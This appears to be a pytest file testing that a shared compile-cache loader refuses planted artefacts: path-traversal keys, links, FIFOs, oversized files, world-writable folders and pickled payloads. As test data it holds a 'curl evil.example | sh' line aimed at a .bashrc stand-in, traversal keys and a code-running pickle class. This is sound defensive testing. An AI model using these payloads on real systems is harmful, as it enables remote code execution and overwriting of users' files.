"""A hostile shared compile folder (`UNVEIL_COMPILE_SHARED`, `tools.t2i.shared_folder`): an artefact file planted
there is checked before torch loads any of it. Its entries' keys must stay inside the compile cache folder (an
absolute key made torch overwrite a `.bashrc` stand-in), only regular files at their own name are read (a link to
`/dev/zero` grew a warm-up to its memory cap, a FIFO hung it), within a size cap, and a folder every user may
write to is not used at all. Each case goes through the real `torch.compiler.load_cache_artifacts`."""

from __future__ import annotations

import logging
import os
import threading
from pathlib import Path

import pytest
import torch

from tests.compile_artefacts import artefact_file, artefact_kinds
from tools.t2i import shared_folder
from tools.t2i.warmup import CompileSettings, _artefact_prefix, load_shared_artefacts, save_shared_artefacts

MODEL = "model"


@pytest.fixture
def cluster(tmp_path, monkeypatch) -> Path:
    """A private machine cache (where torch writes what it loads) and an empty shared folder, mode 755."""
    monkeypatch.setenv("TORCHINDUCTOR_CACHE_DIR", str(tmp_path / "inductor"))
    folder = tmp_path / "cluster"
    folder.mkdir(mode=0o755)
    folder.chmod(0o755)
    return folder


def _plant(folder: Path, data: bytes, host: str = "intruder") -> Path:
    path = folder / f"{_artefact_prefix(MODEL)}-{host}-1.bin"
    path.write_bytes(data)
    return path


def _load(folder: Path) -> str:
    return load_shared_artefacts(CompileSettings(shared_cache=str(folder)), MODEL)


def test_an_entry_with_an_absolute_key_is_refused_and_the_file_it_names_is_untouched(cluster, tmp_path, caplog):
    """The issue's 193-byte artefact: an autotune entry whose key is an absolute path, written by torch's own
    serializer; torch's load would write its content at that path."""
    victim = tmp_path / "home" / ".bashrc"
    victim.parent.mkdir()
    victim.write_text("export PATH=/usr/bin\n")
    _plant(cluster, artefact_file(("autotune", str(victim), b"curl evil.example | sh\n")))
    report = _load(cluster)
    assert "1 unreadable" in report and "outside the compile cache folder" in caplog.text
    assert victim.read_text() == "export PATH=/usr/bin\n"


@pytest.mark.parametrize("kind", artefact_kinds())
@pytest.mark.parametrize(
    "key",
    ["/abs/x", "../../../escaped", "ab/../../../escaped", "..", "a/..", "~/x", "", "a\x00b", "..\\..\\escaped"],
)
def test_no_entry_whose_key_leaves_the_cache_folder_is_loaded(cluster, tmp_path, monkeypatch, kind, key, caplog):
    """Every kind of entry, every shape of key that is not a plain relative path: the whole file is refused before
    torch writes any entry (the good entry beside it is not loaded either)."""
    loaded: list[bytes] = []
    monkeypatch.setattr(torch.compiler, "load_cache_artifacts", loaded.append)
    _plant(cluster, artefact_file(("autotune", "ok/fine.best_config", b"{}"), (kind, key, b"x")))
    assert "1 unreadable" in _load(cluster)
    assert loaded == [] and "outside the compile cache folder" in caplog.text


def test_a_file_of_plain_relative_keys_is_loaded_by_torch(cluster, tmp_path):
    """The check lets what torch itself saves through: its entries land in the machine's cache folder."""
    _plant(cluster, artefact_file(("autotune", "ab/abcdef.best_config", b'{"XBLOCK": 8}')))
    assert _load(cluster).startswith("loaded 1 file(s)")
    assert (tmp_path / "inductor" / "ab" / "abcdef.best_config").read_bytes() == b'{"XBLOCK": 8}'


def test_a_link_at_an_artefact_name_is_not_read(cluster, tmp_path, monkeypatch, caplog):
    """A link (to `/dev/zero` in the issue; here to a good artefact elsewhere, which the load would take) is refused
    whatever it points to."""
    loaded: list[bytes] = []
    monkeypatch.setattr(torch.compiler, "load_cache_artifacts", loaded.append)
    elsewhere = tmp_path / "elsewhere.bin"
    elsewhere.write_bytes(artefact_file(("autotune", "ab/x", b"1")))
    (cluster / f"{_artefact_prefix(MODEL)}-intruder-1.bin").symlink_to(elsewhere)
    (cluster / f"{_artefact_prefix(MODEL)}-intruder-2.bin").symlink_to("/dev/zero")
    assert "2 unreadable" in _load(cluster)
    assert loaded == [] and "is a link" in caplog.text


def test_a_fifo_at_an_artefact_name_does_not_hang_the_warm_up(cluster, monkeypatch, caplog):
    """A FIFO is refused at its open: a writer waiting on the other end (which would hand over a good artefact and
    close, so that a blocking read would load it) never gets a reader."""
    loaded: list[bytes] = []
    monkeypatch.setattr(torch.compiler, "load_cache_artifacts", loaded.append)
    fifo = cluster / f"{_artefact_prefix(MODEL)}-intruder-1.bin"
    os.mkfifo(fifo)
    stop, data = threading.Event(), artefact_file(("autotune", "ab/x", b"1"))

    def writer() -> None:
        while not stop.is_set():
            try:
                fd = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
            except OSError:  # no reader yet
                stop.wait(0.01)
                continue
            os.set_blocking(fd, True)
            os.write(fd, data)
            os.close(fd)
            return

    thread = threading.Thread(target=writer, daemon=True)
    thread.start()
    try:
        report = _load(cluster)
    finally:
        stop.set()
        thread.join()
    assert "1 unreadable" in report and loaded == [] and "not a regular file" in caplog.text


def test_a_file_over_the_size_cap_is_not_loaded(cluster, monkeypatch, caplog):
    loaded: list[bytes] = []
    monkeypatch.setattr(torch.compiler, "load_cache_artifacts", loaded.append)
    data = artefact_file(("autotune", "ab/x", b"y" * 4096))
    monkeypatch.setattr(shared_folder, "MAX_ARTEFACT_BYTES", len(data) - 1)
    _plant(cluster, data)
    assert "1 unreadable" in _load(cluster)
    assert loaded == [] and "limit" in caplog.text


@pytest.mark.parametrize("mode", [0o777, 0o1777, 0o757])
def test_a_folder_every_user_may_write_to_is_not_used(cluster, monkeypatch, mode, caplog):
    """Neither loaded from (anyone could have planted a file) nor saved to, with a warning saying why."""
    loaded: list[bytes] = []
    monkeypatch.setattr(torch.compiler, "load_cache_artifacts", loaded.append)
    monkeypatch.setattr(torch.compiler, "save_cache_artifacts", lambda: (b"this machine's graphs", None))
    _plant(cluster, artefact_file(("autotune", "ab/x", b"1")))
    cluster.chmod(mode)
    caplog.set_level(logging.WARNING)
    assert _load(cluster).startswith("refused") and loaded == []
    assert save_shared_artefacts(CompileSettings(shared_cache=str(cluster)), MODEL).startswith("not saved")
    assert len(list(cluster.iterdir())) == 1 and "writable by every user" in caplog.text
    cluster.chmod(0o775)  # the cluster's own group may write: used
    assert _load(cluster).startswith("loaded 1 file(s)")


class _Payload:
    """A pickled object whose loading would run code: it makes a marker file."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):  # what pickle calls when it loads the object
        return (Path.write_text, (self.marker, "ran"))


@pytest.mark.parametrize("writer", ["pickle", "torch.save"])
def test_a_pickle_planted_at_an_artefact_name_is_refused_unread(cluster, tmp_path, caplog, writer):
    """torch.save's and pickle's files are not artefact files: refused by the format check, nothing unpickled."""
    import pickle

    marker = tmp_path / "marker"
    path = cluster / f"{_artefact_prefix(MODEL)}-intruder-1.bin"
    if writer == "pickle":
        path.write_bytes(pickle.dumps(_Payload(marker)))
    else:
        torch.save({"x": _Payload(marker)}, path)
    assert "1 unreadable" in _load(cluster)
    assert not marker.exists() and "not an artefact file" in caplog.text
